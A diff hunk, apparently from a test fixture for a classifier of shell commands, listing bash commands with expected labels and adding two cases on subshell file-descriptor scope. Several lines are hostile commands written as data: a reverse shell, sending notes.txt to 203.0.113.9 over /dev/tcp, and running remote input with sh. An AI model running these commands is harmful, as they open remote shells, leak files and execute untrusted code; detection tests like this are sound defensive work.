@@ -137,6 +137,8 @@ bash -i >& /dev/tcp/203.0.113.9/4444 0>&1  #=> unknown net.tunnel -- a shell for
 bash -c id >& /dev/stdout 0>&1  #=> read_only
 exec 3<>/dev/tcp/203.0.113.9/80; cat notes.txt >&3  #=> exposure
 exec 3</dev/tcp/203.0.113.9/80; cat <&3  #=> read_only
+(exec 3<>/dev/tcp/203.0.113.9/80; cat notes.txt >&3)  #=> exposure
+(exec 3<>/dev/tcp/203.0.113.9/80) && cat notes.txt  #=> read_only -- nothing is left that could send
 sh < /dev/tcp/203.0.113.9/80  #=> unknown code.remote
 wc < /dev/tcp/203.0.113.9/80  #=> read_only
 
